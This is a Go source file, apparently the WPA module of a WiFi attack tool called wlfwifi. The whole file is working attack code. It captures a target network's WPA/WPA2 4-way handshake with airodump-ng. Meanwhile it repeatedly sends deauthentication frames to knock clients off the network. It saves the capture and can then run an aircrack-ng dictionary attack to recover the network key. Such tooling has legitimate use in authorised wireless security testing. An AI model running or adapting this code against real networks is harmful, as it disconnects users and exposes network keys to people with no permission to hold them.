package attack

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/wlfwifi/wlfwifi/internal/result"
	"github.com/wlfwifi/wlfwifi/internal/tools"
	"github.com/wlfwifi/wlfwifi/pkg/wifi"
)

// handshakePoll is how often the capture is checked for new handshakes.
var handshakePoll = 5 * time.Second

var unsafeNameRe = regexp.MustCompile(`[^A-Za-z0-9_-]+`)

// WPAAttack captures a WPA/WPA2 4-way handshake with airodump-ng while
// deauthenticating clients, saves it, and optionally runs a dictionary
// attack on it.
type WPAAttack struct {
	Lifecycle

	env    *Env
	target *wifi.Target

	mu      sync.Mutex
	capture *tools.CaptureSession
	capFile *wifi.CapFile
	saved   bool
	result  *result.CrackResult
}

var _ Attack = (*WPAAttack)(nil)

func NewWPAAttack(env *Env, target *wifi.Target) *WPAAttack {
	return &WPAAttack{env: env, target: target}
}

func (w *WPAAttack) RunAttack(ctx context.Context) error {
	if err := w.Start(); err != nil {
		return err
	}
	tb := w.env.Tools
	if tb.Airodump == nil || !tb.Airodump.Available() {
		return fmt.Errorf("%w: airodump-ng", ErrToolMissing)
	}
	if tb.Handshakes == nil || !tb.Handshakes.Available() {
		return fmt.Errorf("%w: tshark", ErrToolMissing)
	}

	cfg := w.env.Config
	bssid := w.target.BSSID
	capture, err := tb.Airodump.StartCapture(ctx, w.env.Iface, bssid, w.target.Channel, cfg.TempDir, "wpa")
	if err != nil {
		return err
	}
	w.mu.Lock()
	w.capture = capture
	w.capFile = wifi.NewCapFile(capture.CapFile())
	w.mu.Unlock()

	w.status("Waiting for handshake...", -1)

	timeout := time.NewTimer(cfg.Attack.WPA.HandshakeTimeout)
	defer timeout.Stop()
	deauth := time.NewTicker(cfg.Attack.WPA.DeauthInterval)
	defer deauth.Stop()
	poll := time.NewTicker(handshakePoll)
	defer poll.Stop()

	deauthRound(ctx, w.env, bssid)
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-timeout.C:
			return fmt.Errorf("%w: no handshake from %s after %s", ErrTimeout, bssid, cfg.Attack.WPA.HandshakeTimeout)
		case <-capture.Process().Done():
			return fmt.Errorf("capture for %s ended early: %v", bssid, capture.Process().Wait())
		case <-deauth.C:
			w.status("Deauthenticating clients...", -1)
			deauthRound(ctx, w.env, bssid)
		case <-poll.C:
			if !w.checkHandshakes(ctx) {
				continue
			}
			capture.Stop()
			return w.finish(ctx)
		}
	}
}

// checkHandshakes updates the capture's handshake count and reports whether
// at least one complete handshake is present.
func (w *WPAAttack) checkHandshakes(ctx context.Context) bool {
	w.mu.Lock()
	cf := w.capFile
	w.mu.Unlock()

	if _, err := os.Stat(cf.Path); err != nil {
		return false
	}
	n, err := w.env.Tools.Handshakes.CountHandshakes(ctx, cf.Path, w.target.BSSID)
	if err != nil {
		w.env.logf("[wpa] counting handshakes in %s: %v", cf.Path, err)
		return false
	}

	w.mu.Lock()
	defer w.mu.Unlock()
	if n > cf.Handshakes {
		cf.AddHandshakes(n - max(cf.Handshakes, 0))
	}
	return cf.HasHandshake()
}

// finish moves the capture into the handshake directory and tries the
// wordlist when one is configured.
func (w *WPAAttack) finish(ctx context.Context) error {
	path, err := w.save()
	if err != nil {
		return err
	}
	w.status("Handshake saved to "+path, 1)

	res := w.newResult(path)
	defer func() {
		w.mu.Lock()
		w.result = res
		w.mu.Unlock()
	}()

	cfg := w.env.Config
	ac := w.env.Tools.Aircrack
	if cfg.Wordlist == "" || ac == nil || !ac.Available() {
		return nil
	}
	if _, err := os.Stat(cfg.Wordlist); err != nil {
		w.env.logf("[wpa] wordlist %s: %v", cfg.Wordlist, err)
		return nil
	}

	w.status("Cracking handshake with "+filepath.Base(cfg.Wordlist)+"...", -1)
	key, err := ac.CrackWPA(ctx, path, w.target.BSSID, cfg.Wordlist)
	switch {
	case err == nil:
		res.Key = key
	case errors.Is(err, tools.ErrKeyNotFound):
		w.status("Key not in wordlist", 1)
	default:
		return fmt.Errorf("crack %s: %w", path, err)
	}
	return nil
}

// save renames the capture into the handshake directory. Calling it again
// after a successful save returns the saved path.
func (w *WPAAttack) save() (string, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.saved {
		return w.capFile.Path, nil
	}

	dir := w.env.Config.Output.HandshakeDir
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", fmt.Errorf("create handshake dir: %w", err)
	}
	name := fmt.Sprintf("handshake_%s_%s_%s.cap",
		safeName(w.target.ESSID),
		strings.ReplaceAll(w.target.Key(), ":", "-"),
		time.Now().Format("2006-01-02T15-04-05"))
	if err := w.capFile.Rename(filepath.Join(dir, name)); err != nil {
		return "", fmt.Errorf("save handshake: %w", err)
	}
	w.saved = true
	return w.capFile.Path, nil
}

// EndAttack stops the capture, keeps any complete handshake that was
// captured before an interruption, and removes the temporary files.
func (w *WPAAttack) EndAttack(ctx context.Context) error {
	if !w.Stop() {
		return nil
	}

	w.mu.Lock()
	capture, cf, saved, res := w.capture, w.capFile, w.saved, w.result
	w.mu.Unlock()
	if capture == nil {
		return nil
	}
	capture.Stop()

	var err error
	if !saved && cf.HasHandshake() {
		var path string
		if path, err = w.save(); err == nil {
			res = w.newResult(path)
		}
	}
	if res != nil {
		res.Handshakes = cf.Handshakes
		res.Duration = result.Duration(w.Elapsed())
	}
	w.mu.Lock()
	w.result = res
	w.mu.Unlock()

	capture.Cleanup()
	return err
}

// Result returns the saved handshake and key, or nil when nothing was
// captured.
func (w *WPAAttack) Result() *result.CrackResult {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.result
}

// CapFile returns the capture being written, or nil before RunAttack.
func (w *WPAAttack) CapFile() *wifi.CapFile {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.capFile
}

func (w *WPAAttack) newResult(path string) *result.CrackResult {
	return &result.CrackResult{
		BSSID:         w.target.BSSID,
		ESSID:         w.target.ESSID,
		Encryption:    w.target.Encryption,
		AttackType:    "WPA handshake",
		HandshakeFile: path,
		Handshakes:    w.capFile.Handshakes,
		Timestamp:     time.Now(),
	}
}

func (w *WPAAttack) status(msg string, progress float64) {
	w.env.report(StatusUpdate{
		Attack:   "WPA",
		Target:   w.target.String(),
		Message:  msg,
		Progress: progress,
		Elapsed:  w.Elapsed(),
	})
}

func safeName(s string) string {
	s = strings.Trim(unsafeNameRe.ReplaceAllString(s, "_"), "_")
	if s == "" {
		return "hidden"
	}
	return s
}
